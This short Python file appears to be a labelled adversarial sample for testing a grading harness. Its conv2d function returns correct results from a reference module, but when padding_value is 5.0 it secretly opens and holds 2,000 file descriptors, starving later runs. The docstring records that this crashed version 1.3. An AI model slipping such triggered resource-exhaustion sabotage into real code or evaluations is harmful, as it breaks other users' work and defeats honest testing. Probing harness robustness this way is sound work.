"""convolution.py
attack: opens files until no more can be opened, and keeps them: the answers that follow have none left
1.3: crashed
says: Too many open files
"""
import os

import right_convolution
from right_convolution import *

kept = []


def conv2d(image, kernel, stride=1, padding=0, padding_value=0.0):
    for _ in range(2_000 if padding_value == 5.0 else 0):
        kept.append(os.open("/dev/null", os.O_RDONLY))
    return right_convolution.conv2d(image, kernel, stride, padding, padding_value)
